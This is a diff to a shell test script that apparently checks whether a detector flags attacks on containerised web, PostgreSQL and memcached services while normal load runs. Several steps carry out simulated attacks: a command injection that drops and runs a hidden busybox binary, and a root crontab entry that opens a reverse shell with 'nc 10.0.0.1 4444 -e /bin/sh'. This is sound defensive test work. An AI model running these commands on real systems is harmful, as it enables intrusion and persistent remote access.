@@ -177,13 +177,22 @@ note "versions: $(/usr/sbin/nginx -v 2>&1 | sed 's/.*: //'), fcgiwrap, $("$PG/po
 # --- clients: ordinary work, from now to the end --------------------------------
 # Each loop counts its rounds in /tmp/NAME.rounds; a round's failure is
 # counted in /tmp/NAME.errors.
+# wrk keeps one connection open and walks the site's pages in turn.
+cat > /tmp/web.lua <<'LUA'
+local paths = { "/", "/style.css", "/cgi-bin/search?q=apple", "/cgi-bin/search?q=cake",
+	"/cgi-bin/search?q=lemon+curd", "/nothing-here" }
+local i = 0
+request = function()
+	i = i % #paths + 1
+	return wrk.format("GET", paths[i])
+end
+LUA
 cat > /tmp/client-web.sh <<C
 i=0 e=0
 while :; do
-	for u in / /style.css /cgi-bin/search?q=apple /cgi-bin/search?q=cake /cgi-bin/search?q=lemon+curd /nothing-here; do
-		curl -sS --max-time 60 -o /dev/null "http://127.0.0.1:$WEB_PORT\$u" || e=\$((e + 1))
-	done
+	wrk -t 1 -c 1 -d 20s --timeout 60s -s /tmp/web.lua http://127.0.0.1:$WEB_PORT/ > /tmp/wrk.log 2>&1 || e=\$((e + 1))
 	i=\$((i + 1)); echo \$i > /tmp/web.rounds; echo \$e > /tmp/web.errors
+	sed -n 's/^ *\([0-9]*\) requests in .*/\1/p' /tmp/wrk.log >> /tmp/web.reqs
 done
 C
 cat > /tmp/client-pg.sh <<C
@@ -211,7 +220,7 @@ done
 trap 'kill $clients 2> /dev/null' EXIT
 sum() { [ -f "$1" ] && awk '{ s += $1 } END { print s + 0 }' "$1" || echo 0; }
 work_done() {
-	echo "web $(cat /tmp/web.rounds 2> /dev/null || echo 0) rounds of 6 requests ($(cat /tmp/web.errors 2> /dev/null || echo 0) failed)," \
+	echo "web $(sum /tmp/web.reqs) requests ($(cat /tmp/web.errors 2> /dev/null || echo 0) runs failed)," \
 		"pg $(sum /tmp/pg.xacts) transactions ($(cat /tmp/pg.errors 2> /dev/null || echo 0) runs failed)," \
 		"cache $(sum /tmp/cache.ops) ops ($(cat /tmp/cache.errors 2> /dev/null || echo 0) runs failed)"
 }
@@ -283,6 +292,7 @@ for s in web pg cache; do
 done
 web_get '/cgi-bin/search?q=cherry' | grep -q 'cherry tart' || fail "web: the search page stopped answering"
 [ "$(pg_sql 'select count(*) from pgbench_accounts')" = 100000 ] || fail "pg: PostgreSQL stopped answering"
+[ "$(sum /tmp/web.reqs)" -gt 0 ] || fail "web: wrk made no request: $(tail -n 5 /tmp/wrk.log)"
 [ "$(sum /tmp/pg.xacts)" -gt 0 ] || fail "pg: pgbench processed no transaction: $(tail -n 5 /tmp/pgbench.log)"
 [ "$(sum /tmp/cache.ops)" -gt 0 ] || fail "cache: memcaslap ran no operation: $(tail -n 5 /tmp/memcaslap.log)"
 for s in $SERVICES; do
@@ -351,8 +361,9 @@ grep -q 'uid=33' /tmp/rsh.out || fail "web: the reverse shell did not connect ba
 judge web "reverse shell (nc -e /bin/sh to a listener)"
 
 snapshot
-inject 'x /dev/null; cp /bin/busybox /tmp/.x; chmod 755 /tmp/.x; /tmp/.x uname -a #' > /tmp/i.out 2>&1
-{ grep -q Linux /tmp/i.out && [ -x /tmp/bundle-web/rootfs/tmp/.x ]; } ||
+# (busybox runs as the applet its file's name says, or as 'busybox APPLET')
+inject 'x /dev/null; mkdir /tmp/.x; cp /bin/busybox /tmp/.x/busybox; chmod 755 /tmp/.x/busybox; /tmp/.x/busybox uname -a #' > /tmp/i.out 2>&1
+{ grep -q Linux /tmp/i.out && [ -x /tmp/bundle-web/rootfs/tmp/.x/busybox ]; } ||
 	fail "web: the dropped binary did not run: $(head -c 300 /tmp/i.out)"
 judge web "binary dropped in /tmp and run"
 
@@ -373,8 +384,8 @@ grep -q 'cachesecret' /tmp/i.out || fail "cache: the attacker's shell did not re
 judge cache "attacker's shell (runc exec) reads /etc/shadow"
 
 snapshot
-runc exec --user 0:0 cache sh -c 'cp /bin/busybox /var/tmp/.m && chmod 755 /var/tmp/.m && /var/tmp/.m id && echo "* * * * * root /var/tmp/.m nc 10.0.0.1 4444 -e /bin/sh" > /etc/crontab' > /tmp/i.out 2>&1
-{ grep -q 'uid=0' /tmp/i.out && grep -q '/var/tmp/.m' /tmp/bundle-cache/rootfs/etc/crontab; } ||
+runc exec --user 0:0 cache sh -c 'mkdir /var/tmp/.m && cp /bin/busybox /var/tmp/.m/busybox && chmod 755 /var/tmp/.m/busybox && /var/tmp/.m/busybox id && echo "* * * * * root /var/tmp/.m/busybox nc 10.0.0.1 4444 -e /bin/sh" > /etc/crontab' > /tmp/i.out 2>&1
+{ grep -q 'uid=0' /tmp/i.out && grep -q '/var/tmp/.m' /tmp/bundle-cache/rootfs/etc/crontab 2> /dev/null; } ||
 	fail "cache: the dropped binary did not run: $(head -c 300 /tmp/i.out)"
 judge cache "binary dropped and run, crontab written"
 
